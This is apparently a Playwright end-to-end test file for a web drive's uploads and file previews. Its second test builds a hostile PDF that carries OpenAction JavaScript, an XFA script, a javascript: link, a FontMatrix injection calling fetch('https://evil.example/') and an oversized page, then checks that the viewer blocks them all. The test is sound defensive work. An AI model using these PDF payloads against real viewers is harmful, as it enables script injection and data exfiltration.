// Thorough: run by the merge check, or by name.
/** Drag and drop, folder uploads, media, documents and PDF pages. */
import assert from 'node:assert/strict'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test } from 'node:test'
import type { Page } from 'playwright-core'
import { drawVideo } from '#packages/media-tools/simulated/video.ts'
import { docxOf, pdfOf } from '#test/drive/documents.ts'
import { upload } from '#test/drive/drive.ts'
import { needs } from '../../needs.ts'
import { testServer } from '../../server.ts'
import { becomes, until } from '../../until.ts'
import { wav } from '../../vendors/media/made/sound.ts'
import { breaches } from '../axe.ts'
import { hasChromium, sharedBrowser, visit } from '../browser.ts'
import { dropOn, signIn } from '../steps.ts'

const browser = sharedBrowser()
const chromium = needs(hasChromium, 'Chromium')
const grid = (page: Page) => page.getByRole('grid')
const row = (page: Page, name: string) => grid(page).getByRole('row', { name: new RegExp(name.replace('.', '\\.')) })
const ofThePage = (page: Page, number: number) => page.getByRole('group', { name: `Page ${number}`, exact: true })

test('files and folders can be dropped, selected, moved and previewed', chromium, async () => {
  await using server = await testServer()
  await using stack = new AsyncDisposableStack()
  const folder = mkdtempSync(join(tmpdir(), 'dropped-'))
  stack.defer(() => rmSync(folder, { recursive: true, force: true }))
  const files: Record<string, string | Uint8Array> = {
    'bell.wav': wav(2),
    'waves.mp4': await drawVideo({ width: 160, height: 90, seconds: 1, fps: 8, words: 'waves' }),
    'letter.docx': await docxOf('<w:p><w:r><w:t>Dear printer, more blue.</w:t></w:r></w:p>'),
    'views.pdf': pdfOf([
      ...Array.from({ length: 30 }, (_, i) => `View ${i + 1} of the mountain`),
      'A needle at the end',
    ]),
    'album/inner/lake.txt': 'the lake',
    'album/sea.txt': 'the sea',
    'prints/red.txt': 'red',
  }
  for (const [name, bytes] of Object.entries(files)) {
    mkdirSync(join(folder, name, '..'), { recursive: true })
    writeFileSync(join(folder, name), bytes)
  }
  const at = (name: string): string => join(folder, name)
  const alice = await server.person('Alice')
  await using visitor = await visit(browser(), server.origin)
  const { page } = visitor
  await signIn(page, alice)
  await page.goto('/app/drive')
  await page.getByText('This folder is empty').waitFor()
  await dropOn(visitor, ['bell.wav', 'waves.mp4', 'letter.docx', 'views.pdf', 'album'].map(at))
  await page.getByRole('region', { name: 'Uploads' }).getByText('6 uploads complete').waitFor()
  await page.locator('input[data-upload=folder]').setInputFiles(at('prints'))
  await page.getByRole('region', { name: 'Uploads' }).getByText('7 uploads complete').waitFor()
  const paths = async (): Promise<string[]> =>
    (await alice.get('/drive/files?kind=file&limit=100')).body.data.map(({ path }: { path: string }) => path).sort()
  assert.deepEqual(await paths(), Object.keys(files).sort())
  await page.getByRole('button', { name: 'Close uploads' }).click()

  // Sorted by name: folders, then bell, letter, views, waves.
  await row(page, 'waves.mp4').waitFor()
  await row(page, 'letter.docx').click({ position: { x: 500, y: 10 } })
  await row(page, 'waves.mp4').click({ position: { x: 500, y: 10 }, modifiers: ['Shift'] })
  await page.getByText('3 of 6 selected').waitFor()
  await row(page, 'views.pdf').click({ position: { x: 500, y: 10 }, modifiers: ['Control'] })
  await page.getByText('2 of 6 selected').waitFor()
  await row(page, 'waves.mp4').dragTo(row(page, 'album'), {
    sourcePosition: { x: 500, y: 24 },
    targetPosition: { x: 500, y: 24 },
  })
  await grid(page).getByRole('link', { name: 'waves.mp4' }).waitFor({ state: 'detached' })
  await until(paths, (all) => all.includes('album/letter.docx') && all.includes('album/waves.mp4'))

  await grid(page).getByRole('link', { name: 'bell.wav' }).click()
  await until(
    () => page.evaluate<number>(`document.querySelector('main audio')?.duration ?? 0`),
    (seconds) => seconds > 1.9,
  )
  // Seeking fetches a range.
  await page.evaluate(`new Promise((done) => {
      const sound = document.querySelector('main audio')
      sound.addEventListener('seeked', done, { once: true })
      sound.currentTime = 1.5
    })`)
  await page.getByRole('navigation', { name: 'Breadcrumb' }).getByRole('link').first().click()
  await grid(page).getByRole('link', { name: 'album' }).click()
  await grid(page).getByRole('link', { name: 'waves.mp4' }).click()
  await until(
    () => page.evaluate<number>(`document.querySelector('main video')?.videoWidth ?? 0`),
    (width) => width === 160,
  )
  await page.getByRole('navigation', { name: 'Breadcrumb' }).getByRole('link', { name: 'album' }).click()
  await grid(page).getByRole('link', { name: 'letter.docx' }).click()
  await page.getByRole('region', { name: 'Document text' }).getByText('Dear printer, more blue.').waitFor()

  // Few pages are rendered, and all can be reached and searched.
  await page.getByRole('navigation', { name: 'Breadcrumb' }).getByRole('link').first().click()
  await grid(page).getByRole('link', { name: 'views.pdf' }).click()
  await ofThePage(page, 1).getByText('View 1 of the mountain').waitFor()
  assert.ok(
    await page.evaluate<boolean>(`(() => {
      const canvas = document.querySelector('main canvas')
      const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height)
      return data.some((value, at) => at % 4 === 0 && value < 128)
    })()`),
    'ink is on the page',
  )
  const pages = page.getByRole('region', { name: 'Pages of views.pdf' })
  await pages.focus()
  await page.keyboard.press('ArrowRight')
  await until(
    () => page.getByLabel('Page', { exact: true }).inputValue(),
    (value) => value === '2',
  )
  await page.getByLabel('Page', { exact: true }).fill('20')
  await page.keyboard.press('Enter')
  await ofThePage(page, 20).getByText('View 20 of the mountain').waitFor()
  await until(
    () => page.locator('main canvas').count(),
    (count) => count <= 6,
  )
  const width = async (): Promise<number> => (await ofThePage(page, 20).boundingBox())!.width
  const before = await width()
  await pages.focus()
  await page.keyboard.press('+')
  await until(width, (now) => now > before)
  await page.keyboard.press('/')
  await page.getByRole('searchbox', { name: 'Find in this PDF' }).fill('needle')
  await page.getByText('1 of 1 page').waitFor()
  await ofThePage(page, 31).getByText('A needle at the end').waitFor()
  // Closing the search returns the keyboard to the pages.
  await page.keyboard.press('Escape')
  await page.keyboard.press('ArrowLeft')
  await ofThePage(page, 30).getByText('View 30 of the mountain').waitFor()
  await until(
    () => page.getByLabel('Page', { exact: true }).inputValue(),
    (value) => value === '30',
  )
  await page.getByRole('button', { name: 'Text only', exact: true }).click()
  await page.getByRole('region', { name: 'Document text' }).getByText('View 7 of the mountain').waitFor()
  assert.deepEqual(visitor.wrongs, [])
})

test(
  'PDFs run no scripts and load nothing, locked ones open with their password, and damaged ones show an error',
  chromium,
  async () => {
    await using server = await testServer()
    const alice = await server.person('Alice')
    const plain = pdfOf(['Harmless to read', 'x']).toString('latin1')
    const action = (what: string): string => `<< /S /JavaScript /JS (${what}) >>`
    const hostile: Record<string, string> = {
      // Scripts on open and close, an automatic link, a submitting form, and a page a mile wide.
      'harm.pdf': plain
        .replace(
          '/Type /Catalog',
          `/Type /Catalog /OpenAction ${action('app.alert(1); app.launchURL("https://evil.example/")')} /AA << /WC ${action('app.alert(2)')} >> /URI << /Base (https://evil.example/) >> /AcroForm << /XFA (<xdp><script>alert(3)</script></xdp>) /Fields [] >>`,
        )
        .replace(
          '/BaseFont /Helvetica',
          '/BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); document.title = "taken"; fetch\\("https://evil.example/"\\); //)]',
        )
        .replace(
          '/Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]',
          `/Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O ${action('app.alert(4)')} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (javascript:alert\\(5\\)) >> >>]`,
        )
        .replace(/(.*)MediaBox \[0 0 612 792\]/s, '$1MediaBox [0 0 9000000 9000000]'),
      'locked.pdf': pdfOf(['Known to few'], 'keyblock').toString('latin1'),
      'broken.pdf': '%PDF-1.7\nnothing that could be read',
    }
    const ids: Record<string, string> = {}
    for (const [name, words] of Object.entries(hostile)) {
      const made = await upload(alice, { workspace_id: alice.workspaceId }, Buffer.from(words, 'latin1'), name)
      assert.deepEqual([made.status, made.body.data?.mime_type], [201, 'application/pdf'], made.text)
      ids[name] = made.body.data.id
    }
    await using visitor = await visit(browser(), server.origin)
    const { page } = visitor
    page.on('dialog', (dialog) => {
      visitor.wrongs.push(`a dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    await signIn(page, alice)
    await page.goto(`/app/drive/file/${ids['harm.pdf']}`)
    await ofThePage(page, 1).getByText('Harmless to read').waitFor()
    await page.getByRole('button', { name: 'Next page (→)' }).click()
    await ofThePage(page, 2).locator('canvas').waitFor({ state: 'attached' })
    const drawn = await page.evaluate<number>(
      `Math.max(...[...document.querySelectorAll('main canvas')].map(({ width, height }) => width * height))`,
    )
    assert.ok(drawn <= 8 << 20, `${drawn} pixels`)
    assert.equal(await page.title(), 'harm.pdf · Drive · Ukiyo')
    await becomes(() => page.locator('main a[href*="evil"], main iframe, main script').count(), 0)
    await page.goto(`/app/drive/file/${ids['locked.pdf']}`)
    await page.getByLabel('Password', { exact: true }).fill('a guess')
    await page.getByLabel('Password', { exact: true }).press('Enter')
    await page.getByText('Wrong password.').waitFor()
    assert.deepEqual(await breaches(page), [])
    await page.getByLabel('Password', { exact: true }).fill('keyblock')
    await page.getByLabel('Password', { exact: true }).press('Enter')
    await ofThePage(page, 1).getByText('Known to few').waitFor()
    await page.goto(`/app/drive/file/${ids['broken.pdf']}`)
    await page.getByText('This PDF is damaged').waitFor()
    assert.deepEqual(visitor.wrongs, [])
  },
)
